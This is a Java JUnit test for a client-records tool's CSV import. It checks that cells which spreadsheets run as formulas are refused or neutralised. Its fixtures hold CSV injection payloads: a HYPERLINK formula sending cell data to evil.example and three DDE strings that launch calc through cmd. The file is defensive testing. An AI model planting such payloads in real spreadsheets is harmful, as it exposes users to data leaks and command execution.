package app.soapstone.client;

import app.soapstone.shell.Failure;
import app.soapstone.support.SoapstoneTest;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVPrinter;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.io.Reader;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * {@code client import --csv FILE [--allow-formulas]}: a name or email cell that a spreadsheet
 * would run as a formula ({@code =}, {@code +}, {@code -}, {@code @}) is refused by line and
 * column unless {@code --allow-formulas}; phone numbers and free text starting with + or - are
 * imported as they are; and a file Soapstone exported comes back exactly as it was stored, the
 * quote the export put before such cells taken off again.
 */
@Tag(SoapstoneTest.POSTGRESQL)
class ClientImportFormulasTest extends SoapstoneTest {

    private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Ann\")";
    private static final String DDE = "+cmd|' /C calc'!A0";
    private static final String SUM = "@SUM(1+1)*cmd|' /C calc'!A0";
    private static final String MINUS = "-2+3+cmd|' /C calc'!A0";

    @TempDir
    Path temp;

    @Test
    void formulasInNameColumnsAreRefusedByLineAndColumn() throws Exception {
        Path csv = csv(List.of("first_name", "last_name", "preferred_name", "print_name", "email", "phone", "notes"),
                List.of(HYPERLINK, "Lee", "", "", "", "", ""),
                List.of("Ben", DDE, "", "", "", "", ""),
                List.of("Cat", "Ng", SUM, "", "", "", ""),
                List.of("Dan", "Wu", "", MINUS, "", "", ""),
                List.of("Eve", "Ho", "", "", "=1+1@example.com", "", ""),
                List.of("Fay", "Oh", "", "", "fay@example.com", "+61 412 345 678", "- see GP letter"));

        Result result = run("client import --csv " + csv);

        assertThat(result.status()).isEqualTo(Failure.USAGE);
        assertThat(result.error()).startsWith("Nothing was imported: 5 bad rows");
        assertThat(reported(result.error())).containsExactly(
                "line 2: first_name: '" + HYPERLINK + "' starts with '=', which a spreadsheet runs as a formula"
                        + " (correct the cell, or give --allow-formulas to import it as text)",
                "line 3: last_name: '" + DDE + "' starts with '+', which a spreadsheet runs as a formula"
                        + " (correct the cell, or give --allow-formulas to import it as text)",
                "line 4: preferred_name: '" + SUM + "' starts with '@', which a spreadsheet runs as a formula"
                        + " (correct the cell, or give --allow-formulas to import it as text)",
                "line 5: print_name: '" + MINUS + "' starts with '-', which a spreadsheet runs as a formula"
                        + " (correct the cell, or give --allow-formulas to import it as text)",
                "line 6: email: '=1+1@example.com' starts with '=', which a spreadsheet runs as a formula"
                        + " (correct the cell, or give --allow-formulas to import it as text)");
        assertThat(count()).isZero();
    }

    @Test
    void phoneNumbersAndNotesStartingWithPlusOrMinusAreImported() throws Exception {
        Path csv = csv(List.of("first_name", "last_name", "phone", "emergency_contact", "notes"),
                List.of("Fay", "Oh", "+61 412 345 678", "+61 400 000 000 (Sam, partner)", "- see GP letter"));

        Result result = run("client import --csv " + csv);

        assertThat(result.status()).as(result.error()).isEqualTo(Failure.OK);
        assertThat(jdbc.sql("SELECT phone, emergency_contact, notes FROM client").query().singleRow())
                .containsEntry("phone", "+61 412 345 678")
                .containsEntry("emergency_contact", "+61 400 000 000 (Sam, partner)")
                .containsEntry("notes", "- see GP letter");
    }

    @Test
    void allowFormulasImportsThemAsText() throws Exception {
        Path csv = csv(List.of("first_name", "last_name", "preferred_name"),
                List.of(HYPERLINK, DDE, SUM));

        Result result = run("client import --csv " + csv + " --allow-formulas");

        assertThat(result.status()).as(result.error()).isEqualTo(Failure.OK);
        assertThat(jdbc.sql("SELECT first_name, last_name, preferred_name FROM client").query().singleRow())
                .containsEntry("first_name", HYPERLINK).containsEntry("last_name", DDE)
                .containsEntry("preferred_name", SUM);
    }

    @Test
    void whatSoapstoneExportedImportsAsItWasStored() throws Exception {
        runWords("client", "add", "--first-name", "Fay", "--last-name", "Oh", "--phone", "+61 412 345 678",
                "--notes", "- see GP letter\n- allergic to almond oil", "--address", "@ the old mill", "--email",
                "fay@example.com", "--dob", "1958-03-14", "--emergency-contact", "+61 400 000 000 (Sam)").expectOk();
        runWords("client", "add", "--first-name", HYPERLINK, "--last-name", "Lee", "--print-name", "'Ann Lee'")
                .expectOk();
        List<Map<String, Object>> stored = importable();
        Path export = temp.resolve("export");
        run("export --to " + export).expectOk();
        // The columns client import knows, cut from the export's client.csv cell for cell.
        Path csv = temp.resolve("again.csv");
        List<String> columns = List.of("first_name", "last_name", "preferred_name", "print_name", "date_of_birth",
                "phone", "email", "address", "emergency_contact", "notes");
        try (Reader reader = Files.newBufferedReader(export.resolve("client.csv"), StandardCharsets.UTF_8);
             CSVParser exported = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(reader)) {
            StringWriter out = new StringWriter();
            try (CSVPrinter printer = CSVFormat.RFC4180.builder().setHeader(columns.toArray(String[]::new)).get().print(out)) {
                for (CSVRecord row : exported) {
                    for (String column : columns) {
                        printer.print(row.get(column));
                    }
                    printer.println();
                }
            }
            Files.writeString(csv, out.toString(), StandardCharsets.UTF_8);
        }
        assertThat(Files.readString(csv)).as("neutralised in the export").contains("'+61 412 345 678")
                .contains("'" + HYPERLINK.replace("\"", "\"\"")).contains("'@ the old mill");
        // The same clients again, on purpose: --allow-duplicate lets the formula check speak alone.
        Result refused = run("client import --csv " + csv + " --allow-duplicate");
        Result imported = run("client import --csv " + csv + " --allow-formulas --allow-duplicate");

        assertThat(refused.status()).isEqualTo(Failure.USAGE);
        assertThat(reported(refused.error())).singleElement().asString()
                .startsWith("line 4: first_name: '" + HYPERLINK + "' starts with '='");
        assertThat(imported.status()).as(imported.error()).isEqualTo(Failure.OK);
        List<Map<String, Object>> all = importable();
        assertThat(all.subList(stored.size(), all.size())).as("the clients imported again").isEqualTo(stored);
    }

    // ---------------------------------------------------------------- helpers

    @SafeVarargs
    private Path csv(List<String> header, List<String>... rows) throws IOException {
        StringWriter out = new StringWriter();
        try (CSVPrinter printer = CSVFormat.RFC4180.builder().setHeader(header.toArray(String[]::new)).get().print(out)) {
            for (List<String> row : rows) {
                printer.printRecord(row);
            }
        }
        return Files.writeString(temp.resolve("clients-" + System.nanoTime() + ".csv"), out.toString(),
                StandardCharsets.UTF_8);
    }

    /** The reported rows: the indented "line N: ..." lines. */
    private static List<String> reported(String message) {
        return message.lines().filter(l -> l.startsWith("  line ")).map(String::strip).toList();
    }

    private long count() {
        return jdbc.sql("SELECT count(*) FROM client").query(Long.class).single();
    }

    private List<Map<String, Object>> importable() {
        return jdbc.sql("""
                SELECT first_name, last_name, preferred_name, print_name, date_of_birth, phone, email, address,
                       emergency_contact, notes FROM client ORDER BY id""").query().listOfRows();
    }
}
